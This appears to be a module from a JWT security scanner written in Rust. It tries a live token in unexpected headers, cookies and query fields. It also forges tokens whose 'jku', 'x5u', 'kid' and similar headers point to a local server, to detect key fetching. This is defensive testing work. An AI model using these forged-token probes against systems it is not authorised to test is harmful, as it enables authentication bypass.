//! Good tokens in the wrong place, and headers that point to keys elsewhere.

use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::Result;
use serde_json::json;
use tokio::net::TcpListener;

use super::{Forgery, Loot, bearer, show};
use crate::client::{Ask, Target};
use crate::forger::with;
use crate::report::Report;

/// A live token where none is looked for: nobody may be let in by it, and nothing may break.
pub(super) async fn try_places(target: &Target, loot: &Loot, report: &mut Report) -> Result<()> {
    let (door, token) = ("/api/user/profile", loot.live.text.as_str());
    let plain = || Ask::get(door);
    let places = [
        ("in the query", Ask::get(&format!("{door}?access_token={token}"))),
        ("in the query by another name", Ask::get(&format!("{door}?token={token}"))),
        ("in a cookie", plain().field("Cookie", format!("accessToken={token}; token={token}; refreshToken={token}"))),
        ("in X-Access-Token", plain().field("X-Access-Token", token)),
        ("in Proxy-Authorization", plain().field("Proxy-Authorization", format!("Bearer {token}"))),
        ("under another scheme", plain().field("Authorization", format!("JWT {token}"))),
        ("under Basic", plain().field("Authorization", format!("Basic {token}"))),
        ("without a scheme", plain().field("Authorization", token)),
        ("after another token", bearer(door, "x").field("Authorization", format!("Bearer {token}"))),
        ("before another token", bearer(door, token).field("Authorization", "Bearer x")),
        ("with a word after it", bearer(door, &format!("{token} x"))),
        (
            "in a form",
            Ask {
                method: "POST",
                fields: vec![("Content-Type".to_owned(), b"application/x-www-form-urlencoded".to_vec())],
                body: format!("access_token={token}"),
                ..plain()
            },
        ),
        ("as a refresh token", Ask::post("/api/auth/refresh", &json!({"refreshToken": token}))),
    ];
    let count = places.len();
    for (what, ask) in places {
        report.tried += 1;
        let answer = target.send(&ask).await?;
        if !(400..500).contains(&answer.status) {
            report.finding(format!("a live token {what}: {} {}", answer.status, answer.code()));
        }
    }
    report.line(format!("good tokens in the wrong place: {count}"));
    Ok(())
}

/// Points at a server of the forger's own, which counts who comes.
pub(super) async fn try_keys_from_elsewhere(target: &Target, loot: &Loot, report: &mut Report) -> Result<()> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}/jwks.json", listener.local_addr()?);
    let callers = Arc::new(AtomicUsize::new(0));
    let counting = tokio::spawn({
        let callers = Arc::clone(&callers);
        async move {
            while listener.accept().await.is_ok() {
                callers.fetch_add(1, Ordering::Relaxed);
            }
        }
    });
    let mut forgeries = Vec::new();
    for member in ["jku", "x5u", "iss", "url", "kid"] {
        let input = loot.live.under(&json!({"alg": "EdDSA", member: url}));
        forgeries.push(Forgery::new(member, with(&input, &loot.own.sign(&input))));
    }
    show(target, loot, "keys fetched from elsewhere", forgeries, report).await?;
    counting.abort();
    match callers.load(Ordering::Relaxed) {
        0 => {}
        count => report.finding(format!("the server fetched keys from the forger: {count} calls")),
    }
    Ok(())
}
